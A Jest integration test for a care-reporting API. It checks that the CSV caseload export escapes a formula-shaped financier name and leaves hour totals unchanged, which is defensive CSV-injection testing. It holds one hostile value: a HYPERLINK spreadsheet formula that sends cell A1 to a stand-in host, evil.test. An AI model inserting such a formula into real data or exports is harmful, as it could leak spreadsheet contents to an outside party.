import { IdentityModule } from '@nabij/identity/api';
import { makeAdmin, makeClient, makeWorker } from '@nabij/identity/api/testing';
import { createTestApp, makeOrganisation, TestApp } from '@nabij/platform/testing';
import { ReportsModule } from '../index';

jest.setTimeout(60_000);

// A financier's name is typed in by people; the CSV a team lead opens in a spreadsheet must not run it.
const HOSTILE_NAME = '=HYPERLINK("http://evil.test/?x="&A1,"Gemeente")';

describe('GET /api/reports/caseload?format=csv with a formula-shaped financier name', () => {
  let t: TestApp;
  let admin: string;

  beforeAll(async () => {
    t = await createTestApp({ imports: [IdentityModule, ReportsModule] });
    const org = await makeOrganisation(t, { financiers: [HOSTILE_NAME] });
    const client = await makeClient(t, { organisationId: org.organisationId, financierId: org.financierId });
    const worker = await makeWorker(t, { organisationId: org.organisationId, teamId: org.teamId });
    admin = (await makeAdmin(t, { organisationId: org.organisationId })).token;
    // A closed case of 2019 with more hours than a year of contacts: written as rows, no service makes the past.
    const [c] = await t.dataSource.query(
      `INSERT INTO care_case (organisation_id, client_id, financier_id, team_id, assigned_worker_id, kind_of_work, problem_areas,
                              uses_online_dossier, opened_on, closed_on, close_reason)
       VALUES ($1, $2, $3, $4, $5, 'algemeen_mw', '{}', true, '2019-03-01', '2019-03-20', 'goal_reached') RETURNING id`,
      [org.organisationId, client.id, org.financierId, org.teamId, worker.id],
    );
    // 43 full days and 435 minutes: 62,355 minutes, written as 1039:15 (an entry holds at most a day).
    await t.dataSource.query(
      `INSERT INTO time_entry (organisation_id, worker_id, case_id, contact_type, minutes, occurred_on, created_at, updated_at)
       SELECT $1, $2, $3, 'face_to_face', CASE WHEN n = 44 THEN 435 ELSE 1440 END, '2019-03-01', now(), now() FROM generate_series(1, 44) n`,
      [org.organisationId, worker.id, c.id],
    );
  });
  afterAll(() => t.close());

  it('exports the name as quoted text behind a leading apostrophe, with the hours unchanged', async () => {
    const res = await t
      .http()
      .get('/api/reports/caseload?from=2019-01-01&to=2019-12-31&format=csv')
      .set('Authorization', `Bearer ${admin}`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const line = res.text.split('\n').find((l) => l.includes('HYPERLINK'));
    expect(line).toBe(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""Gemeente"")",Algemeen MW,1,1039:15,0:00,1039:15,1039:15,19,0,0,0,,,,`);
  });

  it('keeps the plain name in the JSON report (only the CSV is for spreadsheets)', async () => {
    const res = await t.http().get('/api/reports/caseload?from=2019-01-01&to=2019-12-31').set('Authorization', `Bearer ${admin}`);
    expect(res.body.rows.map((r: { financier: string }) => r.financier)).toContain(HOSTILE_NAME);
  });
});
